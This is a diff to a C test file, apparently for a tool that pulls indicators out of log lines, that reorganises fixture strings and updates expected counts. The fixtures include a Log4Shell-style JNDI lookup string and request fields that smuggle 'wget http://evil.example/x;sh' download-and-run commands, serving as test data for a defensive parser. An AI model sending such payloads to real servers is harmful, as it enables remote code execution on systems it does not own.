@@ -74,6 +74,14 @@ static const char lines[] =
     "(x)\\\","
     "\\\"u\\\":\\\"http:\\\\/\\\\/evil.example\\\\/x\\\"}\"\n"
     "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"userAgent\":\"[kit/1.0 (x)]\"}\n"
+    /* JSON in strings of JSON */
+    "{\"log\":\"{\\\"timestamp\\\":\\\"2023-11-12T10:00:00Z\\\",\\\"version\\\":\\\"203.0.113.5\\\",\\\"file\\\":"
+    "{\\\"path\\\":\\\"C:\\\\\\\\x\\\\\\\\evil tool.exe\\\"},\\\"u\\\":\\\"http:\\\\/\\\\/"
+    "inner.example\\\\/a?b=1\\\\u0026c=2\\\",\\\"q\\\":\\\"203.0.113.5 evil.example\\\"}\\n\",\"stream\":\"stdout\"}\n"
+    "no time at all: from=o'neil@mail.example b\xc3\xbc"
+    "cher.example and aaaaaaaabbbbbbbbccccccccdddddddd00001111\n";
+
+static const char more_lines[] =
     /* addresses in user agents and behind names; a serial number, a user agent and a path in texts */
     "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"user_agent\":\"${jndi:ldap:\\/\\/203.0.113.5:1389\\/a} x/203.0.113.5 "
     "y\"}\n"
@@ -82,12 +90,12 @@ static const char lines[] =
     "<134>Nov 12 10:00:00 h app: {\"h\":[{\"name\":\"User-Agent\",\"value\":\"kit/1.0 (x) \"}],"
     "\"file_path\":\"/opt//Evil/run7\"}\n"
     "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"h\":[{\"Name\":\"User-Agent\",\"Value\":\"kit/1.0 (x)\"}]}\n"
-    /* JSON in strings of JSON */
-    "{\"log\":\"{\\\"timestamp\\\":\\\"2023-11-12T10:00:00Z\\\",\\\"version\\\":\\\"203.0.113.5\\\",\\\"file\\\":"
-    "{\\\"path\\\":\\\"C:\\\\\\\\x\\\\\\\\evil tool.exe\\\"},\\\"u\\\":\\\"http:\\\\/\\\\/"
-    "inner.example\\\\/a?b=1\\\\u0026c=2\\\",\\\"q\\\":\\\"203.0.113.5 evil.example\\\"}\\n\",\"stream\":\"stdout\"}\n"
-    "no time at all: from=o'neil@mail.example b\xc3\xbc"
-    "cher.example and aaaaaaaabbbbbbbbccccccccdddddddd00001111\n";
+    /* URLs between blanks of a query */
+    "192.0.2.1 - - [12/Nov/2023:10:00:00 +0000] \"GET /r?u=http://evil.example/x&c=wget+http://evil.example/x+-O "
+    "HTTP/1.1\" "
+    "200 1 \"-\" "
+    "\"wget%20http://evil.example/x%20-O;a%20http%3A%2F%2Fevil.example%2Fx%20b+http%3A%2F%2Fevil.example%2Fx\"\n"
+    "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"url\":{\"query\":\"cmd=wget+http://evil.example/x;sh+y\"}}\n";
 
 static const char table[] = "time,user_agent,note\n"
 			    "2023-11-12T10:00:00Z,\"kit \"\"q\"\" 2.0\",\"see \"\"http://evil.example/x\"\", x\"\n"
@@ -302,8 +310,9 @@ static void
 retro__answers_as_the_log_does(void **state)
 {
 	(void)state;
-	/* Each listed value but a key above another, and one of the table's, is in the log. */
-	check_rounds(lines, 1, AC_COUNT(listed) - 2);
+	/* Each listed value but a key above another, a path, and one of the table's, is in the log. */
+	check_rounds(lines, 1, AC_COUNT(listed) - 3);
+	check_rounds(more_lines, 1, 5);
 }
 
 /* Spellings that were seen a moment ago have their place in the memory, until everything goes to disk. */
